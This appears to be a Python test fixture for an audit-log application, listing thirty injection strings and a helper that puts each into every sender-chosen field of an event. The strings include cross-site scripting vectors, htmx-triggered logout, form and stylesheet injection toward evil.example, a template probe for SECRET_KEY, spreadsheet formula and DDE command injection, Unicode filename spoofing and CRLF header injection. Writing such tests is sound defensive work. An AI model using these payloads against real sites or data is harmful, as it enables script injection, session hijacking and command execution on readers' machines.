"""Thirty texts that somebody might put into an event to make a reader's browser, spreadsheet or page do something."""

from datetime import UTC, datetime

from auditapp.lib.ids import new_event_id
from auditapp.record.drafts import Actor, Change, EventDraft, Target

PAYLOADS = (
    "<script>window.hacked = 1</script>",
    "</script><script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    '"><img src=x onerror=window.hacked=1>',
    "'><svg/onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hacked=1>#x'/></svg>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<a href='javascript:window.hacked=1'>click</a>",
    "javascript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "<b hx-get='/accounts/logout/' hx-trigger='load'>x</b>",
    "<b data-hx-post='/accounts/logout/' hx-trigger='load delay:0s'>x</b>",
    "<div hx-on:htmx:load='window.hacked=1'>x</div>",
    '" hx-get="/accounts/logout/" hx-trigger="load" x="',
    "' autofocus onfocus='window.hacked=1' x='",
    "</td></tr></table><h1>Owned</h1>",
    "</bdi></span></a><form action='https://evil.example'><input name=q></form>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<details open ontoggle=window.hacked=1>",
    "<!--><script>window.hacked=1</script-->",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "\u202egnp.exe\u2066 \u200b\ufeffinvisible",
    '=HYPERLINK("https://evil.example","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "line one\r\nSet-Cookie: hacked=1\n\x1b[31mred\x07",
)


def hostile_draft(workspace_id: int, text: str, *, type_key: str = "warehouse.disabled") -> EventDraft:
    """An event with this text in every value that a sender may choose."""
    # A resource is asked for as type:id, so a type has no colon.
    kind = text.replace(":", "")
    now = datetime(2026, 11, 24, 12, tzinfo=UTC)
    return EventDraft(
        workspace_id=workspace_id,
        id=new_event_id(),
        type=type_key,
        area=text,
        actor=Actor("user", text, text, f"{text}@example.com", real=Actor("user", text, text, text)),
        targets=[Target(kind, text, text), Target("warehouse", text, text)],
        occurred_at=now,
        received_at=now,
        origin=text,
        scope_id=text,
        outcome="failure",
        context={
            "ip": text,
            "user_agent": text,
            "request_id": text,
            "session_id": text,
            "token_id": text,
            "reason": text,
            text: text,
        },
        meta={"reason": text, text: {text: [text]}},
        changes=[
            Change(text, text, f"{text}!"),
            Change("list", [text], [text, text + "2"]),
            Change("map", {}, {text: text}),
        ],
    )
